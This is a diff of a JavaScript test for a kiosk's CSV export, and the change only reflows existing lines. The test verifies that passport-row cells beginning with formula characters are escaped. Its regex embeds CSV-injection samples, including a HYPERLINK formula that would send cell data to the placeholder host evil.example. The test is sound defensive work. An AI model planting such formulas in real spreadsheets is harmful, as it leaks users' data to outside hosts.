@@ -105,11 +105,16 @@ describe('the day CSV', () => {
       timeZone: 'Asia/Baku',
     });
     // As a spreadsheet sees the raw file: no cell of the passport rows starts with a formula character.
-    const rawLines = text.slice(1).split('\r\n').filter((line) => line.startsWith('A-'));
+    const rawLines = text
+      .slice(1)
+      .split('\r\n')
+      .filter((line) => line.startsWith('A-'));
     expect(rawLines).toHaveLength(3);
     for (const line of rawLines) {
       // The name in the visitor's language (az, kk or ru here), then the English one.
-      expect(line).toMatch(/^A-\d{3},passport,("'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1;""Bax""\)"|'\+1\+1|'@SUM\(A1:A9\)),'-2\+3,/);
+      expect(line).toMatch(
+        /^A-\d{3},passport,("'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1;""Bax""\)"|'\+1\+1|'@SUM\(A1:A9\)),'-2\+3,/,
+      );
       expect(line.split(',').every((cell) => !/^[=+\-@]/.test(cell.replace(/^"/, '')))).toBe(true);
     }
     // Read back by the kiosk's own reader, the names are as the catalog has them.
